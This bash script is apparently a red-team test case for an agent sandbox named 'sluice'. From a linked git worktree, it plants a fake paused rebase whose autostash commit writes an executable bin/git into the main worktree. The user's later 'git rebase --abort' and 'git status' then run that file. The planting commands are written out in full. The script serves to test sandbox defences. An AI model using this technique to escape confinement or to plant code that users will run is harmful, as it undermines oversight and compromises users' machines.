#!/usr/bin/env bash
# red team 49: 49-w2-autostash.sh the other way round: the run is in the
# linked worktree w2, and leaves a paused rebase in the main worktree's
# gitdir (the common directory, writable from w2: objects, refs, and its
# per-worktree files but index and HEAD) whose orig-head is main's own
# HEAD and whose autostash is a stash-like commit of the command's (main's
# tree plus an executable bin/git). The user's `git rebase --abort` in
# the main worktree applies it and writes bin/git; `git status` there
# with direnv's PATH_add bin runs it.
# usage: 49-main-from-w2-autostash.sh /path/to/sluice   (as root or a user)
NAME=main-from-w2-autostash
HOLE="from w2, the main worktree's rebase-merge/autostash named the command's stash-like commit; the user's git rebase --abort in main applied it and wrote bin/git, git status ran it"
. "$(dirname "$0")/49-lib.sh"
setup() {
  new_repo "$1/main" && git -C "$1/main" worktree add -q "$1/w2" -b feature &&
    "$S" run -C "$1/main" -- true # the user's agent ran there once (the commondir a run from w2 needs)
}
run_dir() { echo "$1/w2"; }
attack() {
  plant "$1" main
  cat <<'EOA'
&& m=$($G rev-parse main) && I=$($G commit-tree -p $m -m index $($G rev-parse main^{tree}))
&& S=$($G commit-tree -p $m -p $I -m 'WIP on main' $t)
&& d=$($G rev-parse --git-common-dir)/rebase-merge && mkdir $d && echo refs/heads/main >>$d/head-name
&& echo $m >>$d/orig-head && echo $m >>$d/onto && echo $S >>$d/autostash
&& touch $d/interactive $d/done $d/git-rebase-todo
EOA
}
trigger() {
  echo "   main's git status: $(git -C "$1/main" status 2>&1 | grep -m1 'while rebasing')"
  git -C "$1/main" rebase --abort >/dev/null 2>&1; user_status "$1/main"
}
finish
